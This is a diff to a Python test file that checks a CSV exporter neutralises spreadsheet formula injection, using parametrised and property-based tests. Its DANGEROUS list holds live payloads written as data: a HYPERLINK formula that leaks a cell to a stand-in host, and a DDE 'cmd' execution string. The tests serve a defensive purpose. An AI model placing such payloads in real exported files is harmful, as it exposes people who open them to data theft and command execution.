@@ -8,10 +8,12 @@ from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from kizashi.errors import InputError
-from kizashi.files.export import write_rows
+from kizashi.files.export import FORMULA_PREFIXES, write_rows
 
 ROWS = [
     {
@@ -71,13 +73,63 @@ def test_csv_flattens_lists_and_mappings(tmp_path: Path) -> None:
     assert json.loads(rows[0]["extra"]) == {"担当": "技術部", "n": 1}
     assert rows[0]["deadline"] == "2026-03-31"
     assert rows[0]["trl"] == "4"
-    assert rows[1]["threat"] == "@SUM(A1)"
+    assert rows[1]["title"] == "'=1+1" and rows[1]["threat"] == "'@SUM(A1)"  # neutralised: shown as text
     assert rows[1]["keywords"] == "" and rows[1]["deadline"] == "" and rows[1]["trl"] == ""
+
+
+DANGEROUS = [
+    '=HYPERLINK("http://x.example/?leak="&A1,"y")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_csv_neutralises_what_a_spreadsheet_would_run(text: str, tmp_path: Path) -> None:
+    out = tmp_path / "x.csv"
+    write_rows([{"id": "A", "title": text}], ["id", "title"], "csv", out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["title"] == "'" + text
+
+
+def _csv_cells(text: str, raw_csv: bool, folder: Path) -> list[str]:
+    out = folder / "x.csv"
+    write_rows([{"title": text, "trl": -3}], ["title", "trl"], "csv", out, raw_csv=raw_csv)
+    with out.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))[1]
+
+
+# Any text, surrogates aside (they cannot be written as UTF-8), with the dangerous starts drawn often.
+cell_texts = st.one_of(
+    st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
+    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.text(st.characters(exclude_categories=["Cs"]), max_size=20)).map(
+        "".join
+    ),
+)
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=cell_texts)
+def test_a_csv_cell_is_neutralised_exactly_when_it_is_dangerous(text: str, tmp_path: Path) -> None:
+    title, trl = _csv_cells(text, False, tmp_path)
+    dangerous = text[:1] in ("=", "+", "-", "@", "\t", "\r")
+    assert title == ("'" + text if dangerous else text)
+    assert trl == "-3"  # a number is written as a number: only text can carry a formula
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=cell_texts)
+def test_raw_csv_gives_the_text_back_as_it_was(text: str, tmp_path: Path) -> None:
+    assert _csv_cells(text, True, tmp_path)[0] == text
 
 
 def test_csv_to_stdout(capsys: pytest.CaptureFixture[str]) -> None:
     write_rows(ROWS[:1], ["id", "trl"], "csv", None)
-    assert capsys.readouterr().out == "id,trl\nA,4\n"
+    assert capsys.readouterr().out == "id,trl\r\nA,4\r\n"
 
 
 def test_xlsx_keeps_text_that_looks_like_a_formula(tmp_path: Path) -> None:
